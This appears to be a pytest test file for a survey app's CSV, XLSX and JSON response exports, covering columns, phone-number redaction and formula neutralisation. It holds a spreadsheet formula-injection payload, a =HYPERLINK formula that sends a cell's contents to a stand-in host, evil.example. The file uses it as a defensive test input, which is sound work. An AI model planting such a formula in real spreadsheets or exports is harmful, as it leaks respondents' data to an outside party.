"""Response exports (CSV, XLSX, JSON): columns, cells, redaction and formula neutralisation."""

import csv
import io
import json

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.services.exports import neutralise, response_table, to_csv, to_json, to_xlsx
from tests.exports.export_data import QUESTION_IDS, add_response, add_wave, counted_queries
from tests.factories import create_consultation, create_group

FIXED = ["response_id", "started_at", "submitted_at", "status", "language"]
FIXED += ["age_band", "group", "mode", "wave"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your prize")'


@pytest.fixture
def consultation(app):
    return create_consultation(wave=add_wave("Baseline, spring 2026"))


@pytest.fixture
def two_responses(consultation):
    full = add_response(
        consultation,
        {
            "mood": "a_bit_unsafe",
            "why_unsafe": "Men at the bus station. Text me on 07700 900123",
            "colour": "blue",
            "pets": ["cat", "dog"],
            "has_bike": "yes",
            "where": ["test-consultation-place-park", "somewhere_else"],
            "siblings": 3,
        },
        skipped=("happy_scale",),
        group=create_group(),
    )
    partial = add_response(consultation, {"mood": "very_safe"}, is_submitted=False, position=1)
    return full, partial


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_one_row_per_response_and_a_column_per_question(consultation, two_responses):
    full, partial = two_responses
    header, first, second = csv_rows(to_csv(consultation))
    assert header == FIXED + QUESTION_IDS
    row = dict(zip(header, first, strict=True))
    assert row["response_id"] == str(full.id)
    assert row["started_at"] == "2026-03-02T09:30:00Z"
    assert row["submitted_at"] == "2026-03-02T09:35:00Z"
    assert (row["status"], row["group"], row["mode"]) == ("complete", "talkers", "self")
    assert (row["language"], row["age_band"]) == ("en", "12-15")
    assert row["wave"] == "Baseline, spring 2026"
    assert row["pets"] == "cat; dog"
    assert row["where"] == "test-consultation-place-park; somewhere_else"
    assert row["happy_scale"] == "(skipped)"
    assert row["older_only"] == ""  # never answered: not shown to this respondent
    assert row["siblings"] == "3"
    later = dict(zip(header, second, strict=True))
    assert (later["status"], later["submitted_at"], later["mood"]) == ("partial", "", "very_safe")


def test_free_text_is_redacted_in_every_format(consultation, two_responses):
    phone = "07700 900123"
    assert phone in two_responses[0].answers[1].value  # stored raw, as the respondent wrote it
    workbook = load_workbook(io.BytesIO(to_xlsx(consultation)))
    sheet_text = " ".join(str(c.value) for row in workbook["Responses"].iter_rows() for c in row)
    for exported in (to_csv(consultation), to_json(consultation), sheet_text):
        assert phone not in exported
        assert "Men at the bus station. Text me on [phone number]" in exported


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("The park = scary", "The park = scary"),
        ("", ""),
        ("2026-03-02T09:30:00Z", "2026-03-02T09:30:00Z"),
    ],
)
def test_neutralise_prefixes_only_cells_a_spreadsheet_would_run(cell, expected):
    assert neutralise(cell) == expected


def test_formulas_in_answers_are_neutralised_in_csv_and_xlsx(consultation):
    add_response(consultation, {"why_unsafe": HYPERLINK})
    add_response(consultation, {"why_unsafe": "+44 7700 900123"}, position=1)
    add_response(consultation, {"why_unsafe": "+1 for more lights"}, position=2)
    column = QUESTION_IDS.index("why_unsafe") + len(FIXED)
    csv_cells = [row[column] for row in csv_rows(to_csv(consultation))[1:]]
    assert csv_cells == [f"'{HYPERLINK}", "[phone number]", "'+1 for more lights"]
    sheet = load_workbook(io.BytesIO(to_xlsx(consultation)))["Responses"]
    xlsx_cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in xlsx_cells] == csv_cells
    # every cell is text ("inlineStr" is how openpyxl reads back an empty string): no formula
    assert {c.data_type for row in sheet.iter_rows() for c in row} <= {"s", "inlineStr"}


def test_web_table_keeps_cells_as_written_for_the_page_to_escape(consultation):
    add_response(consultation, {"why_unsafe": HYPERLINK})
    _headers, [row] = response_table(consultation)
    assert HYPERLINK in row


def test_xlsx_has_bold_frozen_header_and_a_sheet_of_question_texts(consultation, two_responses):
    workbook = load_workbook(io.BytesIO(to_xlsx(consultation)))
    sheet = workbook["Responses"]
    assert [c.value for c in sheet[1]] == FIXED + QUESTION_IDS
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.max_row == 3
    questions = {row[0]: row[2] for row in workbook["Questions"].iter_rows(values_only=True)}
    assert questions["colour"] == "Which colour do you like?"


def test_xlsx_drops_control_characters_a_workbook_cannot_hold(consultation):
    add_response(consultation, {"why_unsafe": "bell\x07 and\x00 nul"})
    sheet = load_workbook(io.BytesIO(to_xlsx(consultation)))["Responses"]
    assert "bell and nul" in [c.value for c in sheet[2]]


def test_json_keeps_answer_types_and_describes_the_questions(consultation, two_responses):
    document = json.loads(to_json(consultation))
    assert document["consultation"]["slug"] == "test-consultation"
    assert document["consultation"]["survey"] == {"id": "all-types", "version": 1}
    assert document["consultation"]["wave"] == "Baseline, spring 2026"
    full, partial = document["responses"]
    assert full["answers"]["pets"] == ["cat", "dog"]
    assert full["answers"]["siblings"] == 3
    assert full["skipped"] == ["happy_scale"]
    assert "older_only" not in full["answers"]
    assert (partial["status"], partial["submitted_at"]) == ("partial", None)
    questions = {q["id"]: q for q in document["questions"]}
    assert "welcome_note" not in questions  # an info page takes no answer
    assert questions["mood"]["text"] == "How safe do you feel today?"
    assert questions["mood"]["options"][0] == {"value": "very_safe", "label": "Very safe"}
    assert [o["label"] for o in questions["where"]["options"]] == [
        *("Bus station", "Park", "Somewhere else")
    ]


def test_an_empty_consultation_exports_headers_only(consultation):
    assert csv_rows(to_csv(consultation)) == [FIXED + QUESTION_IDS]
    assert json.loads(to_json(consultation))["responses"] == []


def test_bom_is_only_added_when_asked_for(consultation):
    assert not to_csv(consultation).startswith("\ufeff")
    assert to_csv(consultation, bom=True).startswith("\ufeffresponse_id,")


def test_exports_use_the_same_number_of_queries_for_1_or_30_responses(app, consultation):
    groups = [create_group(f"group-{n}", f"Group {n}") for n in range(3)]

    def queries_for_each_export() -> list[int]:
        counts = []
        for export in (to_csv, to_json, to_xlsx):
            db.session.expire_all()
            with counted_queries() as statements:
                export(consultation)
            counts.append(len(statements))
        return counts

    add_response(consultation, {"mood": "very_safe", "pets": ["cat"]}, group=groups[0])
    with_one = queries_for_each_export()
    for n in range(29):
        add_response(consultation, {"why_unsafe": "x"}, position=n + 1, group=groups[n % 3])
    assert queries_for_each_export() == with_one
